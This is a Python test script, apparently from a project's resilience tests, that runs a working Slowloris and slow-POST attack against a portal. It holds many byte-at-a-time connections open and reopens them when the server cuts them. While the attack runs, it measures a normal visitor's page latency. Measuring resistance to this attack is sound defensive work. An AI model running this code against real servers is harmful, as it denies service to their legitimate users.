#!/usr/bin/env python3
"""Slow clients against the portal, run in the client namespace (issue 8, "Slow and many clients").

Keeps CONNECTIONS connections open from the SOURCES addresses (round robin), each sending its request head
one byte every INTERVAL seconds (half of them a POST head then its body, slow POST); a connection the server
closes is reopened at once, as an attacker would. While they run, a normal visitor from VISITOR fetches the
portal page VISITS times on a new connection each time and the time to the whole answer is recorded.
Prints one JSON object. Usage:
  slowloris.py PORTAL PORT VISITOR SOURCES(comma-separated) CONNECTIONS VISITS [INTERVAL]"""
import json, resource, selectors, socket, sys, threading, time

portal, port, visitor = sys.argv[1], int(sys.argv[2]), sys.argv[3]
sources = sys.argv[4].split(",")
connections, visits = int(sys.argv[5]), int(sys.argv[6])
interval = float(sys.argv[7]) if len(sys.argv) > 7 else 1.0

soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, connections + 256)), hard))

HEADS = [b"GET / HTTP/1.1\r\nHost: " + portal.encode() + b"\r\nX-Slow: " + b"a" * 4000,
         b"POST /connexion HTTP/1.1\r\nHost: " + portal.encode() + b"\r\nContent-Length: 4000\r\n\r\n" + b"a" * 4000]
stop = threading.Event()
stats = {"opened": 0, "cut_by_server": 0, "refused": 0, "open_samples": []}


class Slow:
    def __init__(self, index):
        self.index, self.sock, self.sent = index, None, 0

    def open(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind((sources[self.index % len(sources)], 0))
        self.sock.setblocking(False)
        self.sock.connect_ex((portal, port))
        self.sent = 0
        stats["opened"] += 1

    def tick(self):
        """Sends one more byte; reopens when the server has closed (cut) or refused the connection."""
        head = HEADS[self.index % 2]
        try:
            if self.sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b"":
                raise ConnectionResetError
        except BlockingIOError:
            pass
        except OSError:
            stats["cut_by_server" if self.sent > 0 else "refused"] += 1
            self.sock.close()
            self.open()
            return
        try:
            self.sent += self.sock.send(head[self.sent % len(head):self.sent % len(head) + 1])
        except BlockingIOError:
            pass
        except OSError:
            stats["cut_by_server" if self.sent > 0 else "refused"] += 1
            self.sock.close()
            self.open()

    def alive(self):
        return self.sent > 0


def attackers():
    slow = [Slow(i) for i in range(connections)]
    for s in slow:
        s.open()
    while not stop.is_set():
        start = time.monotonic()
        for s in slow:
            s.tick()
        stats["open_samples"].append(sum(1 for s in slow if s.alive()))
        stop.wait(max(0.0, interval - (time.monotonic() - start)))
    for s in slow:
        s.sock.close()


def visit():
    """Seconds from connect to the whole portal page, on a new connection; None on failure."""
    start = time.monotonic()
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((visitor, 0))
        s.settimeout(5)
        s.connect((portal, port))
        s.sendall(b"GET / HTTP/1.1\r\nHost: " + portal.encode() + b"\r\nConnection: close\r\n\r\n")
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        return time.monotonic() - start if data.startswith(b"HTTP/1.1 200") else None
    except OSError:
        return None


thread = threading.Thread(target=attackers)
thread.start()
time.sleep(max(3.0, 3 * interval))  # let the slow connections fill what the server lets them hold
latencies, failures = [], 0
for _ in range(visits):
    elapsed = visit()
    if elapsed is None:
        failures += 1
    else:
        latencies.append(elapsed * 1000)
    time.sleep(0.05)
stop.set()
thread.join()
latencies.sort()
samples = stats["open_samples"][3:] or stats["open_samples"]
print(json.dumps({
    "connections": connections, "sources": len(sources), "visits": visits, "failures": failures,
    "latency_ms": {"p50": latencies[len(latencies) // 2] if latencies else None,
                   "p99": latencies[min(len(latencies) - 1, int(len(latencies) * 0.99))] if latencies else None,
                   "max": latencies[-1] if latencies else None},
    "over_100ms": sum(1 for v in latencies if v >= 100),
    "slow_open_median": sorted(samples)[len(samples) // 2] if samples else 0,
    "opened": stats["opened"], "cut_by_server": stats["cut_by_server"], "refused": stats["refused"],
}))
